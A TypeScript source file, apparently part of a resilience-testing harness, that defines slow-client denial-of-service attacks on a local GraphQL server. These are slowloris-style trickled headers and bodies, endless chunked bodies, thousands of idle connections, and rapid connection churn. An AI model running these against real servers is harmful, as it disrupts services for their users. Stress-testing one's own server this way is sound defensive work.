import type { Attack } from '../attack.ts';
import type { Attacker } from '../attacker/attacker.ts';

/** Opens connections, writes a beginning to each, and then a byte now and then. */
async function trickle(
  { connect, pause, timeUp }: Attacker,
  { connections, beginning }: { connections: number; beginning: string },
): Promise<void> {
  const open = Array.from({ length: connections }, () => connect());
  for (const connection of open) connection.write(beginning);
  while (!timeUp.aborted) {
    await pause(200);
    for (const connection of open) connection.write('a');
  }
}

/** Clients that hold connections and say little. */
export const slow: readonly Attack[] = [
  {
    name: 'trickled-headers',
    sentence: 'sends headers byte by byte on 500 connections',
    send: (attacker) =>
      trickle(attacker, {
        connections: 500,
        beginning: 'POST /graphql HTTP/1.1\r\nhost: localhost\r\nx-slow: ',
      }),
  },
  {
    name: 'trickled-bodies',
    sentence: 'sends bodies byte by byte on 500 connections',
    send: (attacker) =>
      trickle(attacker, {
        connections: 500,
        beginning:
          'POST /graphql HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/json\r\ncontent-length: 100000\r\n\r\n{"query":"',
      }),
  },
  {
    name: 'trickled-chunks',
    sentence: 'sends a body without an end in small chunks on 500 connections',
    async send({ connect, pause, timeUp }) {
      const open = Array.from({ length: 500 }, () => connect());
      const beginning =
        'POST /graphql HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/json\r\ntransfer-encoding: chunked\r\n\r\n';
      for (const connection of open) connection.write(beginning);
      while (!timeUp.aborted) {
        await pause(200);
        for (const connection of open) connection.write('1\r\n \r\n');
      }
    },
  },
  {
    name: 'idle-connections',
    sentence: 'opens 3,000 connections and says nothing',
    async send({ connect, wait }) {
      for (let number = 0; number < 3_000; number += 1) connect();
      await wait();
    },
  },
  {
    name: 'connection-churn',
    sentence: 'opens connections and hangs up at once, 200 at a time',
    send: ({ connect, flood, pause }) =>
      flood({ atOnce: 200, count: 20_000 }, async () => {
        const connection = connect();
        await pause(5);
        connection.hangUp();
      }),
  },
];
